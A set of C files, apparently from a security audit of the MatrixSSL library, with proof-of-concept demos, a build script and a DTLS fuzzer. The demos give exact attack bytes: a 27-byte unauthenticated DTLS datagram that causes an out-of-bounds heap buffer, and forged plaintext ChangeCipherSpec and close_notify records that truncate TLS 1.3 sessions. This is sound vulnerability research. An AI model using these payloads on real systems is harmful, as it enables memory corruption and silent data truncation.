        printf("VIOLATION: the replayed record was (rightly) discarded, but the genuine unmodified record "
            "B3 behind B2 was mis-framed: delivered %d of 13 bytes, session error flag=%d\n",
            r->dataLen, (svr.ssl->flags & SSL_FLAGS_ERROR) ? 1 : 0);
        violation = 1;
    }
    else
    {
        printf("OK: Part B: replayed record discarded, B2 and B3 delivered, session alive\n");
    }
    return violation;
}

/* Control: several records per read on TLS (CBC, TLS 1.2 AEAD, TLS 1.3) and
   several fresh records per datagram on DTLS still come out complete */
static int control(int32 ver, psCipher16_t cipher, int isDtls, const char *label)
{
    peer_t cli, svr;
    unsigned char *w, all[1400], msg[3][40];
    int n, i, total = 0, sent = 0;
    feed_t *r = calloc(1, sizeof(*r));
    static unsigned char expect[200];

    if (setupPair(&cli, &svr, ver, cipher, isDtls) < 0) { printf("control %s: setup failed\n", label); return 1; }
    for (i = 0; i < 3; i++)
    {
        int len = 7 + 11 * i;
        memset(msg[i], 'a' + i, len);
        n = sendApp(&cli, msg[i], len, &w, isDtls);
        memcpy(all + total, w, n); total += n;
        memcpy(expect + sent, msg[i], len); sent += len;
    }
    feedBytes(&svr, all, total, r);
    if (r->dataLen != sent || memcmp(r->data, expect, sent) || r->nAppData != 3)
    {
        printf("VIOLATION: control %s: 3 records in one read: delivered %d of %d bytes in %d pieces\n", label, r->dataLen, sent, r->nAppData);
        return 1;
    }
    printf("OK: control %s: 3 records in one read delivered intact\n", label);
    return 0;
}

int main(void)
{
    int a, b;
    matrixSslOpen();
    a = partA();
    b = partB();
    a |= control(SSL_FLAGS_TLS_1_2, 0x003c, 0, "TLS1.2 CBC");
    a |= control(SSL_FLAGS_TLS_1_2, 0x009c, 0, "TLS1.2 GCM");
    a |= control(SSL_FLAGS_TLS_1_1, 0x002f, 0, "TLS1.1 CBC");
    a |= control(SSL_FLAGS_TLS_1_3, 0x1301, 0, "TLS1.3 GCM");
    a |= control(SSL_FLAGS_TLS_1_2, 0x003c, 1, "DTLS1.2 CBC");
    a |= control(SSL_FLAGS_TLS_1_2, 0x009c, 1, "DTLS1.2 GCM");
    return (a != 0 || b != 0) ? 1 : 0;
}
