/* C02 demo 2 (TLS 1.3): on an established, record-protected TLS 1.3
   connection the receiver accepts UNPROTECTED records from the wire:
     - a 7-byte plaintext alert record (15 03 03 00 02 01 00) is taken as a
       genuine close_notify: matrixSslReceivedData returns
       MATRIXSSL_RECEIVED_ALERT (warning, close_notify), the session is marked
       closed, no fatal alert is produced.  An on-path attacker can therefore
       cut the stream at any record boundary and the application sees an
       orderly end-of-data (truncation attack), and the peer's remaining
       records are never delivered.
     - a plaintext ChangeCipherSpec record is accepted at any time after the
       handshake (RFC 8446 5.: must be rejected with unexpected_message once
       the handshake is over).
   Where: matrixssl/tls13Decode.c matrixSslDecodeTls13 lines ~259-298: the
   ChangeCipherSpec / "short alert" special cases are taken before and
   regardless of DECRYPTING_RECORDS(ssl) and of ssl->hsState.
   The same bytes sent to a TLS 1.2 session are rejected with a fatal
   bad_record_mac, shown for contrast. */
#include "pair.h"

static int run(int32 ver, psCipher16_t cipher, const char *label)
{
    peer_t cli, svr;
    unsigned char alert[7] = { 0x15, 0x03, 0x03, 0x00, 0x02, 0x01, 0x00 };
    unsigned char ccs[6] = { 0x14, 0x03, 0x03, 0x00, 0x01, 0x01 };
    unsigned char *w1, *w2, *out;
    int n1, n2, rc, outLen, violation = 0;
    feed_t *r = calloc(1, sizeof(*r));

    rc = setupPair(&cli, &svr, ver, cipher, 0);
    if (rc < 0) { printf("%s: setup failed %d\n", label, rc); return -1; }
    printf("== %s: handshake complete\n", label);

    /* the client application submits two messages */
    n1 = sendApp(&cli, (const unsigned char *) "part-1;", 7, &w1, 0);
    n2 = sendApp(&cli, (const unsigned char *) "part-2.", 7, &w2, 0);
    (void) n2;

    /* attacker: lets record 1 through, injects a plaintext CCS, then replaces
       record 2 by an unprotected close_notify */
    feedBytes(&svr, w1, n1, r);
    printf("record 1 -> rc=%d delivered '%.*s'\n", r->lastRc, r->dataLen, r->data);

    memset(r, 0, sizeof(*r));
    feedBytes(&svr, ccs, sizeof(ccs), r);
    outLen = matrixSslGetOutdata(svr.ssl, &out);
    printf("injected plaintext ChangeCipherSpec -> rc=%d err=%d, server outdata=%d bytes, session error flag=%d\n",
        r->lastRc, r->err, outLen, (svr.ssl->flags & SSL_FLAGS_ERROR) ? 1 : 0);
    if (r->err >= 0 && outLen == 0 && !(svr.ssl->flags & SSL_FLAGS_ERROR))
    {
        printf("VIOLATION: %s: unprotected ChangeCipherSpec accepted on an established connection (no alert)\n", label);
        violation = 1;
    }
    else
    {
        return 0; /* session is dead (as it should be) */
    }

    memset(r, 0, sizeof(*r));
    feedBytes(&svr, alert, sizeof(alert), r);
    outLen = matrixSslGetOutdata(svr.ssl, &out);
    printf("forged plaintext close_notify -> rc=%d gotAlert=%d level=%d desc=%d, server outdata=%d bytes, closed flag=%d error flag=%d\n",
        r->lastRc, r->gotAlert, r->alertLevel, r->alertDesc, outLen,
        (svr.ssl->flags & SSL_FLAGS_CLOSED) ? 1 : 0, (svr.ssl->flags & SSL_FLAGS_ERROR) ? 1 : 0);
    if (r->gotAlert && r->alertLevel == 1 && r->alertDesc == 0 && outLen == 0)
    {
        printf("VIOLATION: %s: unauthenticated 7-byte record accepted as the peer's close_notify; "
            "application got 'part-1;' + orderly closure, 'part-2.' suppressed, no fatal alert\n", label);
        violation = 1;
    }
    return violation;
}

int main(void)
{
    int v13, v12;
    matrixSslOpen();
    v13 = run(SSL_FLAGS_TLS_1_3, 0x1301, "TLS1.3 AES-128-GCM");
    v12 = run(SSL_FLAGS_TLS_1_2, 0x009c, "TLS1.2 AES-128-GCM (contrast)");
    printf("TLS1.3 violation=%d, TLS1.2 violation=%d\n", v13, v12);
    return (v13 > 0 || v12 > 0) ? 1 : 0;
}
