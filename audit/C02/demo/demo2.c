/* C02 demo 2 (TLS 1.3): on an established, record-protected TLS 1.3
   connection the receiver accepts UNPROTECTED records from the wire:
     - a 7-byte plaintext alert record (15 03 03 00 02 01 00) is taken as a
       genuine close_notify: matrixSslReceivedData returns
       MATRIXSSL_RECEIVED_ALERT (warning, close_notify), the session is marked
       closed, no fatal alert is produced.  An on-path attacker can therefore
       cut the stream at any record boundary and the application sees an
       orderly end-of-data (truncation attack), and the peer's remaining
       records are never delivered.
     - a plaintext ChangeCipherSpec record is accepted at any time after the
       handshake (RFC 8446 5.: must be rejected with unexpected_message once
       the handshake is over).
   Where: matrixssl/tls13Decode.c matrixSslDecodeTls13 lines ~259-298: the
   ChangeCipherSpec / "short alert" special cases are taken before and
   regardless of DECRYPTING_RECORDS(ssl) and of ssl->hsState.
   The same bytes sent to a TLS 1.2 session are rejected with a fatal
   bad_record_mac, shown for contrast. */
#include "pair.h"

/* what: 0 = inject a plaintext CCS after record 1, 1 = replace record 2 by a
   plaintext close_notify */
static int run(int32 ver, psCipher16_t cipher, const char *label, int what)
{
    peer_t cli, svr;
    unsigned char alert[7] = { 0x15, 0x03, 0x03, 0x00, 0x02, 0x01, 0x00 };
    unsigned char ccs[6] = { 0x14, 0x03, 0x03, 0x00, 0x01, 0x01 };
    unsigned char *w1, *w2, *out;
    int n1, n2, rc, outLen, violation = 0;
    feed_t *r = calloc(1, sizeof(*r));

    rc = setupPair(&cli, &svr, ver, cipher, 0);
    if (rc < 0) { printf("%s: setup failed %d\n", label, rc); return -1; }
    printf("== %s: handshake complete\n", label);

    /* the client application submits two messages */
    n1 = sendApp(&cli, (const unsigned char *) "part-1;", 7, &w1, 0);
    n2 = sendApp(&cli, (const unsigned char *) "part-2.", 7, &w2, 0);
    (void) n2;

    feedBytes(&svr, w1, n1, r);
    printf("record 1 -> rc=%d delivered '%.*s'\n", r->lastRc, r->dataLen, r->data);
    memset(r, 0, sizeof(*r));
    if (what == 0)
    {
        feedBytes(&svr, ccs, sizeof(ccs), r);
        outLen = matrixSslGetOutdata(svr.ssl, &out);
        printf("injected plaintext ChangeCipherSpec -> rc=%d err=%d, server outdata=%d bytes, session error flag=%d\n",
            r->lastRc, r->err, outLen, (svr.ssl->flags & SSL_FLAGS_ERROR) ? 1 : 0);
        if (r->err >= 0 && outLen == 0 && !(svr.ssl->flags & SSL_FLAGS_ERROR))
        {
            printf("VIOLATION: %s: unprotected ChangeCipherSpec accepted on an established connection (no alert)\n", label);
            violation = 1;
        }
        else
        {
            printf("OK: %s: unprotected ChangeCipherSpec after the handshake ends the session with an alert\n", label);
        }
        return violation;
    }
    feedBytes(&svr, alert, sizeof(alert), r);
    outLen = matrixSslGetOutdata(svr.ssl, &out);
    printf("forged plaintext close_notify -> rc=%d gotAlert=%d level=%d desc=%d, server outdata=%d bytes, closed flag=%d error flag=%d\n",
        r->lastRc, r->gotAlert, r->alertLevel, r->alertDesc, outLen,
        (svr.ssl->flags & SSL_FLAGS_CLOSED) ? 1 : 0, (svr.ssl->flags & SSL_FLAGS_ERROR) ? 1 : 0);
    if (r->gotAlert || outLen == 0 || !(svr.ssl->flags & SSL_FLAGS_ERROR))
    {
        printf("VIOLATION: %s: unauthenticated 7-byte record accepted as the peer's alert; "
            "application got 'part-1;' + closure, 'part-2.' suppressed, no fatal alert\n", label);
        violation = 1;
    }
    else
    {
        printf("OK: %s: unprotected alert record after the handshake ends the session with a fatal alert\n", label);
    }
    return violation;
}

/* Controls: what must keep working */
static int controls(void)
{
    peer_t cli, svr;
    sslSessOpts_t so, co;
    psCipher16_t c[1] = { 0x1301 };
    unsigned char ccs[6] = { 0x14, 0x03, 0x03, 0x00, 0x01, 0x01 };
    unsigned char hsFail[7] = { 0x15, 0x03, 0x03, 0x00, 0x02, 0x02, 0x28 };
    unsigned char *w, *w2;
    int n, i, bad = 0;
    feed_t *r = calloc(1, sizeof(*r));

    /* 1. a genuine (encrypted) close_notify is still reported as closure */
    if (setupPair(&cli, &svr, SSL_FLAGS_TLS_1_3, 0x1301, 0) < 0) return -1;
    matrixSslEncodeClosureAlert(cli.ssl);
    n = takeOutdata(&cli, &w, 0);
    feedBytes(&svr, w, n, r);
    printf("control 1: genuine close_notify (%d wire bytes): gotAlert=%d level=%d desc=%d\n", n, r->gotAlert, r->alertLevel, r->alertDesc);
    if (!r->gotAlert || r->alertDesc != 0) { printf("VIOLATION: control 1 failed\n"); bad = 1; }

    /* 2. middlebox compatibility: plaintext CCS records in front of the
          client's and of the server's encrypted handshake flights */
    memset(&so, 0, sizeof(so)); memset(&co, 0, sizeof(co));
    so.versionFlag = co.versionFlag = SSL_FLAGS_TLS_1_3;
    cli.name = "client"; svr.name = "server";
    loadRsaKeys(&svr.keys); loadRsaKeys(&cli.keys);
    matrixSslNewServerSession(&svr.ssl, svr.keys, NULL, &so);
    matrixSslNewClientSession(&cli.ssl, cli.keys, NULL, c, 1, certCb, NULL, NULL, NULL, &co);
    for (i = 0; i < 6; i++)
    {
        int first = 1;
        while ((n = takeOutdata(&cli, &w, 0)) > 0)
        {
            w2 = malloc(n + 6); memcpy(w2, ccs, 6); memcpy(w2 + 6, w, n);
            memset(r, 0, sizeof(*r));
            if (i > 0 && first) feedBytes(&svr, w2, n + 6, r); else feedBytes(&svr, w, n, r);
            first = 0;
        }
        while ((n = takeOutdata(&svr, &w, 0)) > 0)
        {
            memset(r, 0, sizeof(*r));
            /* the server flight: SH record, then a CCS, then the rest */
            if (i == 0 && n > 5)
            {
                int shLen = 5 + ((w[3] << 8) | w[4]);
                w2 = malloc(n + 6); memcpy(w2, w, shLen); memcpy(w2 + shLen, ccs, 6); memcpy(w2 + shLen + 6, w + shLen, n - shLen);
                feedBytes(&cli, w2, n + 6, r);
            }
            else feedBytes(&cli, w, n, r);
        }
    }
    memset(r, 0, sizeof(*r));
    n = sendApp(&cli, (const unsigned char *) "ping", 4, &w, 0);
    if (n > 0) feedBytes(&svr, w, n, r);
    printf("control 2: handshake with compatibility CCS records: complete client=%d server=%d, data delivered=%d\n",
        matrixSslHandshakeIsComplete(cli.ssl), matrixSslHandshakeIsComplete(svr.ssl), r->dataLen);
    if (r->dataLen != 4) { printf("VIOLATION: control 2 failed\n"); bad = 1; }

    /* 3. a plaintext alert from a client that could not process the server's
          first flight (server already has its handshake read keys on) is
          still reported */
    loadRsaKeys(&svr.keys); loadRsaKeys(&cli.keys);
    matrixSslNewServerSession(&svr.ssl, svr.keys, NULL, &so);
    matrixSslNewClientSession(&cli.ssl, cli.keys, NULL, c, 1, certCb, NULL, NULL, NULL, &co);
    n = takeOutdata(&cli, &w, 0); memset(r, 0, sizeof(*r)); feedBytes(&svr, w, n, r);
    n = takeOutdata(&svr, &w, 0);
    memset(r, 0, sizeof(*r)); feedBytes(&svr, hsFail, 7, r);
    printf("control 3: plaintext handshake_failure during the handshake: gotAlert=%d level=%d desc=%d\n", r->gotAlert, r->alertLevel, r->alertDesc);
    if (!r->gotAlert || r->alertDesc != 0x28) { printf("VIOLATION: control 3 failed\n"); bad = 1; }
    if (!bad) printf("OK: controls passed\n");
    return bad;
}

int main(void)
{
    int a, b, c, d;
    matrixSslOpen();
    a = run(SSL_FLAGS_TLS_1_3, 0x1301, "TLS1.3 AES-128-GCM", 0);
    b = run(SSL_FLAGS_TLS_1_3, 0x1301, "TLS1.3 AES-128-GCM", 1);
    c = run(SSL_FLAGS_TLS_1_2, 0x009c, "TLS1.2 AES-128-GCM (contrast)", 0);
    d = controls();
    printf("TLS1.3 ccs violation=%d, TLS1.3 alert violation=%d, TLS1.2 violation=%d, controls bad=%d\n", a, b, c, d);
    return (a || b || c || d) ? 1 : 0;
}
