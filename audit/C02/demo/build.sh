#!/bin/sh
# Builds all C02 audit demos against the static libraries of the worktree.
# Run `make -j8` at the worktree top level first.
set -e
HERE=$(cd "$(dirname "$0")" && pwd)
TOP=$(cd "$HERE/../.." && pwd)
CFLAGS="-I$TOP/core/config -I$TOP/core/include -I$TOP/core/osdep/include -I$TOP/core/include/sfzcl -I$TOP -O1 -g -Wall -Wno-unused-function -DUSE_CL_PKCS -DUSE_CL_CERTLIB"
LIBS="$TOP/matrixssl/libssl_s.a $TOP/crypto/libcrypt_s.a $TOP/core/libcore_s.a -lpthread"
for src in "$HERE"/demo*.c ${EXTRA}; do
    [ -f "$src" ] || continue
    out="${src%.c}"
    cc $CFLAGS -o "$out" "$src" $LIBS
    echo "built $out"
done
