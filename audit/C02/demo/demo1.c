/* C02 demo 1 (DTLS): one unauthenticated 27-byte datagram sent to an
   established DTLS session drives ssl->inlen negative; the next
   matrixSslGetReadbuf() hands the application a pointer BEFORE the heap
   buffer ssl->inbuf and a length larger than the buffer.

   Where: matrixssl/sslDecode.c matrixSslDecodeTls12AndBelow, the "skip the
   record as a duplicate" branch for an epoch mismatch (lines ~788-819): for a
   ChangeCipherSpec record of another epoch, while no application data has
   been received yet (appDataExch == 0), the code assumes the next record in
   the datagram is the already accepted Finished, reads its 16-bit length
   from the peer's bytes without any bound check (c += 11; rc = len; c += rc)
   and reports c as the end of the consumed data.  matrixSslReceivedData
   (matrixsslApi.c, case DTLS_RETRANSMIT) then does ssl->inlen -= processed
   with processed > ssl->inlen. */
#include "pair.h"

int main(int argc, char **argv)
{
    peer_t cli, svr;
    /* record 1: ChangeCipherSpec, DTLS 1.2, epoch 0 (the session expects epoch 1), length 1
       record 2: header of a "handshake" record whose length field says 0x0100,
                 with no body at all */
    unsigned char dg[27] = {
        0x14, 0xfe, 0xfd, 0x00, 0x00, 0, 0, 0, 0, 0, 9, 0x00, 0x01, 0x01,
        0x16, 0xfe, 0xfd, 0x00, 0x00, 0, 0, 0, 0, 0, 10, 0x01, 0x00
    };
    unsigned char *buf;
    int32 room, rc;
    feed_t *r = calloc(1, sizeof(*r));

    if (argc > 1) { dg[25] = 0xff; dg[26] = 0xff; } /* any argument: maximal length */
    matrixSslOpen();
    rc = setupPair(&cli, &svr, SSL_FLAGS_TLS_1_2, 0x003c /* RSA_AES128_CBC_SHA256 */, 1);
    if (rc < 0) { printf("setup failed %d\n", rc); return 2; }
    printf("DTLS 1.2 handshake complete on both sides\n");

    room = matrixSslGetReadbuf(svr.ssl, &buf);
    printf("before: ssl->inbuf=%p  GetReadbuf ptr=%p room=%d  (inlen=%d insize=%d)\n",
        (void *) svr.ssl->inbuf, (void *) buf, room, svr.ssl->inlen, svr.ssl->insize);

    feedBytes(&svr, dg, sizeof(dg), r);
    printf("attacker datagram (27 bytes, no keys needed): matrixSslReceivedData rc=%d\n", r->lastRc);

    room = matrixSslGetReadbuf(svr.ssl, &buf);
    printf("after : ssl->inbuf=%p  GetReadbuf ptr=%p room=%d  (inlen=%d insize=%d)\n",
        (void *) svr.ssl->inbuf, (void *) buf, room, svr.ssl->inlen, svr.ssl->insize);

    if (svr.ssl->inlen < 0 || buf < svr.ssl->inbuf || room > svr.ssl->insize)
    {
        printf("VIOLATION: unauthenticated DTLS record made ssl->inlen=%d; the next read buffer "
            "starts %ld bytes before the heap buffer and is %d bytes long (buffer is %d): "
            "the next datagram is written out of bounds and its first %d bytes are never parsed\n",
            svr.ssl->inlen, (long) (svr.ssl->inbuf - buf), room, svr.ssl->insize, -svr.ssl->inlen);
        return 1;
    }
    printf("no violation\n");
    return 0;
}
