/* C02 demo 1 (DTLS): one unauthenticated 27-byte datagram sent to an
   established DTLS session drives ssl->inlen negative; the next
   matrixSslGetReadbuf() hands the application a pointer BEFORE the heap
   buffer ssl->inbuf and a length larger than the buffer.

   Where: matrixssl/sslDecode.c matrixSslDecodeTls12AndBelow, the "skip the
   record as a duplicate" branch for an epoch mismatch (lines ~788-819): for a
   ChangeCipherSpec record of another epoch, while no application data has
   been received yet (appDataExch == 0), the code assumes the next record in
   the datagram is the already accepted Finished, reads its 16-bit length
   from the peer's bytes without any bound check (c += 11; rc = len; c += rc)
   and reports c as the end of the consumed data.  matrixSslReceivedData
   (matrixsslApi.c, case DTLS_RETRANSMIT) then does ssl->inlen -= processed
   with processed > ssl->inlen. */
#include "pair.h"

/* Control: the feature the branch exists for.  A genuine retransmit of the
   client's last flight ([ClientKeyExchange][CCS][Finished]) reaches a server
   that has not seen application data yet; the CCS and the Finished behind it
   are skipped and application data still flows afterwards. */
static int control(void)
{
    peer_t cli, svr;
    unsigned char *out, *w;
    int n, nd = 0;
    feed_t *r = calloc(1, sizeof(*r));

    if (setupPair(&cli, &svr, SSL_FLAGS_TLS_1_2, 0x003c, 1) < 0) { printf("control: setup failed\n"); return 2; }
    n = matrixDtlsGetOutdata(cli.ssl, &out);
    while ((n = matrixDtlsGetOutdata(cli.ssl, &out)) > 0)
    {
        nd++;
        feedBytes(&svr, out, n, r);
        matrixDtlsSentData(cli.ssl, n);
        if (r->err < 0 || (svr.ssl->flags & SSL_FLAGS_ERROR) || svr.ssl->inlen != 0)
        {
            printf("VIOLATION: control: genuine flight retransmit broke the server (err %d inlen %d)\n", r->err, svr.ssl->inlen);
            return 1;
        }
    }
    while ((n = takeOutdata(&svr, &w, 1)) > 0) { feed_t *rc = calloc(1, sizeof(*rc)); feedBytes(&cli, w, n, rc); free(w); free(rc); }
    n = sendApp(&cli, (const unsigned char *) "hello", 5, &w, 1);
    memset(r, 0, sizeof(*r));
    feedBytes(&svr, w, n, r);
    if (r->dataLen != 5 || memcmp(r->data, "hello", 5))
    {
        printf("VIOLATION: control: data after a genuine flight retransmit not delivered (%d bytes, rc %d)\n", r->dataLen, r->lastRc);
        return 1;
    }
    printf("OK: control: genuine retransmitted flight (%d datagram(s)) skipped, 'hello' delivered afterwards\n", nd);
    return 0;
}

int main(int argc, char **argv)
{
    peer_t cli, svr;
    /* record 1: ChangeCipherSpec, DTLS 1.2, epoch 0 (the session expects epoch 1), length 1
       record 2: header of a "handshake" record whose length field says 0x0100,
                 with no body at all */
    unsigned char dg[27] = {
        0x14, 0xfe, 0xfd, 0x00, 0x00, 0, 0, 0, 0, 0, 9, 0x00, 0x01, 0x01,
        0x16, 0xfe, 0xfd, 0x00, 0x00, 0, 0, 0, 0, 0, 10, 0x01, 0x00
    };
    unsigned char *buf;
    int32 room, rc;
    feed_t *r = calloc(1, sizeof(*r));

    if (argc > 1) { dg[25] = 0xff; dg[26] = 0xff; } /* any argument: maximal length */
    matrixSslOpen();
    rc = setupPair(&cli, &svr, SSL_FLAGS_TLS_1_2, 0x003c /* RSA_AES128_CBC_SHA256 */, 1);
    if (rc < 0) { printf("setup failed %d\n", rc); return 2; }
    printf("DTLS 1.2 handshake complete on both sides\n");

    room = matrixSslGetReadbuf(svr.ssl, &buf);
    printf("before: ssl->inbuf=%p  GetReadbuf ptr=%p room=%d  (inlen=%d insize=%d)\n",
        (void *) svr.ssl->inbuf, (void *) buf, room, svr.ssl->inlen, svr.ssl->insize);

    feedBytes(&svr, dg, sizeof(dg), r);
    printf("attacker datagram (27 bytes, no keys needed): matrixSslReceivedData rc=%d\n", r->lastRc);

    room = matrixSslGetReadbuf(svr.ssl, &buf);
    printf("after : ssl->inbuf=%p  GetReadbuf ptr=%p room=%d  (inlen=%d insize=%d)\n",
        (void *) svr.ssl->inbuf, (void *) buf, room, svr.ssl->inlen, svr.ssl->insize);

    if (svr.ssl->inlen < 0 || buf < svr.ssl->inbuf || room > svr.ssl->insize)
    {
        printf("VIOLATION: unauthenticated DTLS record made ssl->inlen=%d; the next read buffer "
            "starts %ld bytes before the heap buffer and is %d bytes long (buffer is %d): "
            "the next datagram is written out of bounds and its first %d bytes are never parsed\n",
            svr.ssl->inlen, (long) (svr.ssl->inbuf - buf), room, svr.ssl->insize, -svr.ssl->inlen);
        return 1;
    }
    printf("OK: the unauthenticated datagram left ssl->inlen=%d and the read buffer inside ssl->inbuf\n", svr.ssl->inlen);
    return control();
}
