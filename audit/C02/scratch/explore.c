/* exploration harness (not a deliverable demo) */
#include "common.h"

static int setupPair(peer_t *cli, peer_t *svr, int32 versionFlag, psCipher16_t cipher, int isDtls)
{
    sslSessOpts_t so, co;
    psCipher16_t c[1];
    sslSessionId_t *sid = NULL;

    memset(&so, 0, sizeof(so));
    memset(&co, 0, sizeof(co));
    if (getenv("MFL")) co.maxFragLen = atoi(getenv("MFL"));
    if (getenv("PADBLK")) { co.tls13BlockSize = so.tls13BlockSize = atoi(getenv("PADBLK")); }
    if (getenv("PADLEN")) { co.tls13PadLen = so.tls13PadLen = atoi(getenv("PADLEN")); }
    so.versionFlag = versionFlag | (isDtls ? SSL_FLAGS_DTLS : 0);
    co.versionFlag = versionFlag | (isDtls ? SSL_FLAGS_DTLS : 0);
    cli->name = "client"; svr->name = "server";
    if (loadRsaKeys(&svr->keys) < 0) return -1;
    if (loadRsaKeys(&cli->keys) < 0) return -1;
    if (matrixSslNewServerSession(&svr->ssl, svr->keys, NULL, &so) < 0) return -2;
    c[0] = cipher;
    matrixSslNewSessionId(&sid, NULL);
    if (matrixSslNewClientSession(&cli->ssl, cli->keys, sid, c, cipher ? 1 : 0, certCb, NULL, NULL, NULL, &co) < 0) return -3;
    if (pumpHandshake(cli, svr, isDtls) < 0) return -4;
    return 0;
}

int main(int argc, char **argv)
{
    peer_t cli, svr;
    int32 ver = SSL_FLAGS_TLS_1_2;
    psCipher16_t cipher = 0x003c; /* RSA_AES128_CBC_SHA256 */
    int isDtls = 0, rc, len, bad = 0;
    unsigned char *msg = malloc(20000);
    unsigned char *w;
    int i;

    if (argc > 1) ver = strtol(argv[1], NULL, 0);
    if (argc > 2) cipher = strtol(argv[2], NULL, 0);
    if (argc > 3) isDtls = atoi(argv[3]);
    if (argc > 4) g_verbose = atoi(argv[4]);
    matrixSslOpen();
    rc = setupPair(&cli, &svr, ver, cipher, isDtls);
    printf("setup rc=%d\n", rc);
    if (rc < 0) return 2;
    for (i = 0; i < 20000; i++) msg[i] = (unsigned char) (i * 7 + 1);

    for (len = (getenv("START1") ? 1 : 0); len <= 16384; len += (len < 70 ? 1 : 331))
    {
        feed_t *r = calloc(1, sizeof(*r));
        int n;
        if (isDtls && len > 1300) break;
        n = sendApp(&cli, msg, len, &w, isDtls);
        if (n <= 0) { printf("len %d: send rc %d\n", len, n); bad++; free(r); continue; }
        feedBytes(&svr, w, n, r);
        if (r->err < 0 || r->dataLen != len || memcmp(r->data, msg, len))
        {
            printf("len %d: wire %d, err %d lastRc %d delivered %d nApp %d\n", len, n, r->err, r->lastRc, r->dataLen, r->nAppData);
            bad++;
            if (r->err < 0) break;
        }
        free(w); free(r);
    }
    printf("done bad=%d\n", bad);
    return 0;
}
