#include "common.h"
/* DTLS attacker fuzz: datagrams built from genuine records (dups, reorder), junk wrong-epoch records */
static int setupPair(peer_t *cli, peer_t *svr, int32 versionFlag, psCipher16_t cipher)
{
    sslSessOpts_t so, co; psCipher16_t c[1]; 
    memset(&so, 0, sizeof(so)); memset(&co, 0, sizeof(co));
    so.versionFlag = co.versionFlag = versionFlag | SSL_FLAGS_DTLS;
    cli->name = "client"; svr->name = "server";
    if (loadRsaKeys(&svr->keys) < 0 || loadRsaKeys(&cli->keys) < 0) return -1;
    if (matrixSslNewServerSession(&svr->ssl, svr->keys, NULL, &so) < 0) return -2;
    c[0] = cipher;
    if (matrixSslNewClientSession(&cli->ssl, cli->keys, NULL, c, 1, certCb, NULL, NULL, NULL, &co) < 0) return -3;
    return pumpHandshake(cli, svr, 1);
}
#define NREC 40
int main(int argc, char **argv)
{
    int32 ver = strtol(argv[1], NULL, 0); psCipher16_t cipher = strtol(argv[2], NULL, 0);
    int rounds = argc > 3 ? atoi(argv[3]) : 50; int seed = argc > 4 ? atoi(argv[4]) : 1; int rd;
    srand(seed); matrixSslOpen(); if (argc > 5) g_verbose = 1;
    for (rd = 0; rd < rounds; rd++)
    {
        peer_t cli, svr; unsigned char *rec[NREC]; int recLen[NREC], ptLen[NREC], delivered[NREC]; unsigned char pt[NREC][64];
        int i, step, dead = 0;
        if (setupPair(&cli, &svr, ver, cipher) < 0) { printf("setup fail\n"); return 2; }
        for (i = 0; i < NREC; i++)
        {
            int j; ptLen[i] = 1 + rand() % 40; for (j = 0; j < ptLen[i]; j++) pt[i][j] = rand(); pt[i][0] = i; /* tag */
            recLen[i] = sendApp(&cli, pt[i], ptLen[i], &rec[i], 1); delivered[i] = 0;
            if (recLen[i] <= 0) { printf("send fail %d\n", recLen[i]); return 2; }
        }
        for (step = 0; step < 60 && !dead; step++)
        {
            unsigned char dg[1500]; int dl = 0, parts = 1 + rand() % 4, p; feed_t *r = calloc(1, sizeof(*r)); int off;
            int pass;
            static int maxIdx = -1; if (step == 0) maxIdx = -1;
            int chosen[8], nch = 0;
            for (p = 0; p < parts; p++) { int idx = rand() % NREC; if (rand() % 3) idx = (step / 2 + rand() % 6) % NREC; chosen[nch++] = idx; }
            for (pass = 0; pass < 2; pass++)
            for (p = 0; p < nch + 2; p++)
            {
                int k = (p < nch) ? 0 : 9;
                if (p >= nch && (pass == 0 || rand() % 2)) continue;
                if (k < 7)
                {
                    int idx = chosen[p]; int fresh = !delivered[idx] && idx > maxIdx - 32; int q, dupInDg = 0;
                    for (q = 0; q < p; q++) if (chosen[q] == idx) dupInDg = 1;
                    if (dupInDg) fresh = 0;
                    if ((pass == 0) != (fresh != 0)) continue;
                    if (dl + recLen[idx] > 1400) break;
                    memcpy(dg + dl, rec[idx], recLen[idx]); dl += recLen[idx];
                    if (fresh && idx > maxIdx) maxIdx = idx;
                }
                else
                {
                    /* junk record with wrong (old) epoch: skipped unauthenticated */
                    int jl = 1 + rand() % 60, t = (rand() % 3 == 0) ? 22 : 23; if (dl + 13 + jl > 1400) break;
                    dg[dl] = t; dg[dl+1] = 0xfe; dg[dl+2] = 0xfd; dg[dl+3] = 0; dg[dl+4] = (k == 9) ? 1 : 0; /* epoch 0 or 1 */
                    if (k == 9) { /* same epoch junk -> would be MAC failure: avoid, use seq dup instead */ dg[dl+4] = 0; }
                    memset(dg + dl + 5, 0, 6); dg[dl+10] = rand(); dg[dl+11] = jl >> 8; dg[dl+12] = jl & 0xff;
                    { int j; for (j = 0; j < jl; j++) dg[dl + 13 + j] = rand(); }
                    dl += 13 + jl;
                }
            }
            if (dl == 0) { free(r); continue; }
            if (g_verbose) { printf("step %d dgram %d bytes parts:", step, dl); { int o=0; while (o+13<=dl) { int l=(dg[o+11]<<8)|dg[o+12]; printf(" [t%d ep%d seq%d len%d]", dg[o], dg[o+4], dg[o+10], l); o+=13+l; } } printf("\n"); }
            feedBytes(&svr, dg, dl, r);
            if (g_verbose) { unsigned char *o; int n = matrixSslGetOutdata(svr.ssl, &o); if (n > 0) hexdump("  svr out", o, n); }
            /* check deliveries: r->data is concatenation; parse by tag */
            off = 0;
            while (off < r->dataLen)
            {
                int idx = r->data[off];
                if (idx >= NREC || off + ptLen[idx] > r->dataLen || memcmp(r->data + off, pt[idx], ptLen[idx]))
                { printf("VIOLATION: round %d step %d: delivered bytes do not match a sent datagram (off %d of %d)\n", rd, step, off, r->dataLen); return 1; }
                if (delivered[idx]++) { printf("VIOLATION: round %d step %d: record %d delivered twice\n", rd, step, idx); return 1; }
                off += ptLen[idx];
            }
            if (r->err < 0 || (r->requestSend && (svr.ssl->flags & SSL_FLAGS_ERROR))) dead = 1;
            /* drain any server output (retransmits) */
            { unsigned char *w; int n; while ((n = takeOutdata(&svr, &w, 1)) > 0) free(w); }
            free(r);
        }
        { int cnt = 0; for (i = 0; i < NREC; i++) cnt += delivered[i]; if (g_verbose || rd < 3) printf("round %d: delivered %d/%d dead=%d\n", rd, cnt, NREC, dead); }
        matrixSslDeleteSession(cli.ssl); matrixSslDeleteSession(svr.ssl); matrixSslDeleteKeys(cli.keys); matrixSslDeleteKeys(svr.keys);
        for (i = 0; i < NREC; i++) free(rec[i]);
    }
    printf("ok\n"); return 0;
}
