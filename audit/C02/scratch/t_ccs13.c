#include "../demo/pair.h"
int main(void)
{
